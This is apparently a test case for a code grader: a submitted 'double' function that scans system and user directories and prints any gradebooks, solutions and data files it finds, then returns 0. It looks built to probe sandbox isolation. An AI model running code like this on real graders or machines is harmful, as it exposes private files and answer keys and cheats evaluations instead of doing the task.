# Looks everywhere for gradebooks, solutions and other submissions, and prints them.
# expect: double 0
# %% double
import os
def double(x):
    for top in ("{{COURSE}}", "/tmp", "/srv", "/home", os.path.expanduser("~root"), os.getcwd(), "/proc/self/root"):
        for folder, _, names in os.walk(top):
            for name in names[:200]:
                if name.endswith((".ipynb", ".db", ".jsonl", ".toml", ".csv")):
                    try:
                        print(open(os.path.join(folder, name), errors="replace").read(10**6))
                    except OSError: pass
    return 0
